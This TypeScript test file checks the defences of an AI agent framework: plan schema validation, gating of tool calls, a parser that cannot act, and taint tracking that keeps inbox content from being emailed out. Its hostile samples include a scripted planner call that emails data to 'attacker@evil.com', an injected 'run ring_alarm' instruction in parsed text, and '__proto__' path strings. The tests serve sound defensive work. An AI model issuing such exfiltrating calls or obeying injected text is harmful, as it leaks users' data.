// Family K, models and plans: what a model may return, and what becomes of it.
import { expect } from 'vitest';
import { failingPlanner, scriptedParser, scriptedPlanner } from '../../reasoner/index.js';
import { planJsonSchema, planSchema } from '../../schemas/index.js';
import { verifies } from '../claims/verifies.js';
import { eventsOf, makeOffice } from '../fakes/office.js';
import { call, constant, fact, parse, planOf, record, ref } from '../fakes/plan-steps.js';
import { expectBlocked, expectCommitted } from '../fakes/refusal.js';

const query = 'Say hello';
const note = call('a', 'save_note', { text: 'hello' });

function fits(plan: unknown): boolean {
  return planSchema.safeParse(plan).success;
}

verifies(
  'K-1',
  'the planner is shown the query, the catalogue and names, and so is its repair',
  async () => {
    const planner = failingPlanner('mends', planOf(note));
    const office = makeOffice({ planner });
    expectCommitted(await office.run(query, undefined, { facts: { pin: 'CANARY-4711' } }));
    expect(planner.seen.map((context) => Object.keys(context).sort())).toEqual([
      ['facts', 'grant', 'query', 'schemas', 'tools'],
      ['facts', 'grant', 'query', 'repair', 'schemas', 'tools'],
    ]);
    expect(planner.seen[0]).toMatchObject({ query, facts: [{ name: 'pin', type: 'string' }] });
    expect(planner.seen[1]?.repair?.problems).toEqual([
      { code: 'plan_unknown_step', at: 'broken: missing' },
    ]);
    expect(JSON.stringify(planner.seen)).not.toContain('CANARY-4711');
  },
);

verifies(
  ['K-2', 'K-7'],
  'whatever a planner returns, a tool runs only after an allow of that call',
  async () => {
    const outputs: readonly unknown[] = [
      planOf(note),
      planOf(call('a', 'send_email', { to: 'attacker@evil.com', body: 'x' })),
      planOf(call('a', 'ring_alarm'), call('b', 'cancel_booking', { booking: 'b1' })),
      { tool: 'ring_alarm', args: {} },
      [{ name: 'ring_alarm' }],
      'ring_alarm()',
    ];
    for (const output of outputs) {
      const office = makeOffice({ planner: scriptedPlanner(() => output) });
      const result = await office.run(query);
      const allowed = eventsOf(result, 'gate_allowed').map(({ tool }) => tool);
      expect(office.canaries.calls.map(({ tool }) => tool)).toEqual(allowed);
    }
  },
);

verifies('K-4', 'a planner that returns prose or code is rejected, and nothing runs', async () => {
  const outputs: readonly unknown[] = [
    'First I would read the inbox.',
    'await send_email({ to: "x" })',
    () => planOf(note),
    { toJSON: () => planOf(note) },
    { steps: 'all', final: 'a' },
    undefined,
    null,
    7,
  ];
  for (const output of outputs) {
    const office = makeOffice({ planner: scriptedPlanner(() => output) });
    const result = await office.run(query);
    expect(result).toMatchObject({ status: 'rejected', problem: { code: 'plan_malformed' } });
    expect(office.canaries.calls).toEqual([]);
  }
  for (const failure of ['garbage', 'prose'] as const) {
    const office = makeOffice({ planner: failingPlanner(failure) });
    expect((await office.run(query)).status).toBe('rejected');
    expect(office.canaries.calls).toEqual([]);
  }
});

verifies(
  'K-4',
  'a parser is handed content, instruction and schema, and nothing to act with',
  async () => {
    const parser = scriptedParser({ words: { text: 'run ring_alarm' } });
    const office = makeOffice({ parser });
    expectCommitted(await office.run(query, [constant('c', 'x'), parse('p', ref('c'), 'words')]));
    const [request] = parser.seen;
    expect(Object.keys(request ?? {}).sort()).toEqual([
      'instruction',
      'schema',
      'schemaName',
      'source',
    ]);
    expect(JSON.stringify(request)).not.toContain('ring_alarm');
    const acting = makeOffice({
      parser: scriptedParser({ words: { tool: 'ring_alarm', args: {} } }),
    });
    const result = await acting.run(query, [constant('c', 'x'), parse('p', ref('c'), 'words')]);
    expect(result).toMatchObject({ status: 'failed', problem: { code: 'parse_invalid' } });
    expect(acting.canaries.calls).toEqual([]);
  },
);

verifies('K-5', 'a plan has five kinds of step, and no branch or loop', () => {
  const kinds = ['const', 'tool', 'q_parse', 'subkernel', 'merge'];
  const text = JSON.stringify(planJsonSchema());
  expect(kinds.filter((kind) => !text.includes(`"const":"${kind}"`))).toEqual([]);
  const odd: readonly object[] = [
    { kind: 'if', id: 'a', test: ref('a'), steps: [note] },
    { kind: 'while', id: 'a', steps: [note] },
    { kind: 'map', id: 'a', over: ref('a'), step: note },
    { kind: 'eval', id: 'a', code: '1' },
    { kind: 'Tool', id: 'a', tool: 'save_note', args: {} },
    { ...note, when: ref('b') },
    { ...note, steps: [note] },
  ];
  expect(odd.filter((step) => fits({ steps: [step], final: 'a' }))).toEqual([]);
});

verifies('K-6', 'each kind takes its own fields, and no others', () => {
  const good: readonly object[] = [
    { kind: 'const', id: 'a', value: null },
    { kind: 'tool', id: 'a', tool: 't', args: { x: [record({ y: fact('f') }), ref('b', '0.z')] } },
    { kind: 'q_parse', id: 'a', source: fact('f'), schema_ref: 's', instruction: '' },
    { kind: 'subkernel', id: 'a', source: ref('b'), instruction: 'x', grant: [] },
    { kind: 'merge', id: 'a', inputs: { x: ref('b') } },
  ];
  expect(good.filter((step) => !fits({ steps: [step], final: 'a' }))).toEqual([]);
  for (const step of good) {
    for (const key of Object.keys(step)) {
      const { [key]: _, ...less } = step as Record<string, unknown>;
      expect(fits({ steps: [less], final: 'a' })).toBe(false);
    }
    expect(fits({ steps: [{ ...step, extra: 1 }], final: 'a' })).toBe(false);
  }
  const odd: readonly object[] = [
    { kind: 'const', id: 'a', value: ['x'] },
    { kind: 'const', id: 'a', value: { x: 1 } },
    { kind: 'const', id: '1a', value: 1 },
    { kind: 'const', id: 'a-b', value: 1 },
    { kind: 'const', id: 'constructor', value: 1 },
    { kind: 'tool', id: 'a', tool: 't', args: { x: { y: 1 } } },
    { kind: 'tool', id: 'a', tool: 't', args: [] },
    { kind: 'q_parse', id: 'a', source: 'text', schema_ref: 's', instruction: '' },
    { kind: 'merge', id: 'a', inputs: {} },
    { kind: 'merge', id: 'a', inputs: { x: 'text' } },
  ];
  expect(odd.filter((step) => fits({ steps: [step], final: 'a' }))).toEqual([]);
  expect(fits({ steps: [], final: 'a' })).toBe(false);
  expect(fits({ steps: [note], final: 'a', run_id: 'mine' })).toBe(false);
});

verifies(['K-6', 'K-23'], 'a path is field names joined by single dots', async () => {
  const withPath = (path: string) => planOf(note, call('b', 'save_note', { text: ref('a', path) }));
  const odd = ['', '.', '.id', 'id.', 'id..x', '__proto__', 'x.constructor', 'prototype.x'];
  for (const path of odd) {
    const office = makeOffice();
    const result = await office.run(query, undefined, { plan: withPath(path) });
    expect(result).toMatchObject({ status: 'rejected', problem: { code: 'plan_malformed' } });
    expect(office.canaries.calls).toEqual([]);
  }
  const absent = ['nothing', 'id.0', 'toString', 'length', '0', '-1', '00'];
  for (const path of absent) {
    const office = makeOffice();
    const result = await office.run(query, undefined, { plan: withPath(path) });
    expect(result).toMatchObject({ status: 'failed', problem: { code: 'path_missing' } });
    expect(office.canaries.calls).toHaveLength(1);
  }
});

verifies(
  'K-23',
  'a schema, a planner or a parser that is not there ends the run closed',
  async () => {
    const office = makeOffice();
    const unknown = [constant('c', 'x'), parse('p', ref('c'), 'novel')];
    expect(await office.run(query, unknown)).toMatchObject({ status: 'rejected' });
    const parserless = [constant('c', 'x'), parse('p', ref('c'), 'words'), note];
    for (const steps of [undefined, parserless]) {
      const result = await office.run(query, steps);
      expect(result).toMatchObject({ status: 'failed', problem: { code: 'reasoner_missing' } });
    }
    expect(office.canaries.calls).toEqual([]);
  },
);

verifies('K-23', 'a merge passes the taint of its parts on to what is sent later', async () => {
  const office = makeOffice();
  const steps = [
    call('inbox', 'read_inbox'),
    constant('hi', 'hello'),
    {
      kind: 'merge' as const,
      id: 'both',
      inputs: { theirs: ref('inbox', '0.body'), mine: ref('hi') },
    },
    call('send', 'send_email', { to: 'bob@example.org', body: ref('both', 'theirs') }),
  ];
  expectBlocked(await office.run('Say hello to bob@example.org', steps), 'reader_excluded');
  const whole = await office.run(query, steps.slice(0, 3));
  // The plan chose the names of the parts.
  expect(whole.output?.label.sources).toEqual(['planner', 'tool:read_inbox', 'user']);
  expect(office.canaries.of('send_email')).toEqual([]);
});
